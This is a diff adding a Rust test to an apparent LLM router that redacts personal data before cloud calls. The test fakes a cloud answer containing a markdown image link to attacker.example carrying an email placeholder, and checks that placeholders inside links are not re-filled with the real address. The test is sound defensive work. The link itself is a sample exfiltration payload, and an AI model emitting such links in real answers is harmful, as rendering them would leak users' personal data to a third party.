@@ -550,6 +550,43 @@ async fn redacting_hedge_sends_placeholders_only_when_the_cloud_runs() {
     redacted_round_trip(&resp, &fake);
 }
 
+/// A cloud answer that puts a placeholder inside a link (here a markdown image, which an app
+/// rendering the answer would fetch) keeps the placeholder there, re-hydrates it elsewhere,
+/// and says so; for a plain cloud call and a hedge's cloud leg.
+#[tokio::test]
+async fn placeholders_in_links_of_a_cloud_answer_stay_placeholders() {
+    let fake = FakeProvider::start().await;
+    fake.set_reply("Noted, <EMAIL_1>. ![ok](https://attacker.example/p.png?u=<EMAIL_1>)");
+    let local = Arc::new(EchoModel::default());
+    local.fail.store(true, Ordering::SeqCst);
+    for route in ["route = \"cloud\"", "route = \"hedge\"\nafter_ms = 5000"] {
+        let r = router(
+            &format!("[defaults]\n{route}\nredact = true\n"),
+            local.clone(),
+            fake.openai_config(),
+        );
+        let resp = r
+            .complete(Request::new(
+                "Draft a note to jane.roe@example.com about lunch",
+            ))
+            .await
+            .unwrap();
+        assert_eq!(resp.route, Route::Cloud, "{}", resp.decision);
+        assert_eq!(
+            resp.text,
+            "Noted, jane.roe@example.com. ![ok](https://attacker.example/p.png?u=<EMAIL_1>)",
+            "{route}"
+        );
+        assert!(
+            resp.decision
+                .reasons
+                .contains(&Reason::PlaceholdersLeftInLinks { count: 1 }),
+            "{route}: {}",
+            resp.decision
+        );
+    }
+}
+
 /// A policy's `[cloud.breaker]` reaches the provider the router builds from `[cloud]`: with a
 /// threshold of one failure (the default is five), one failed call opens the breaker, and
 /// later requests stay on the device without touching the network.
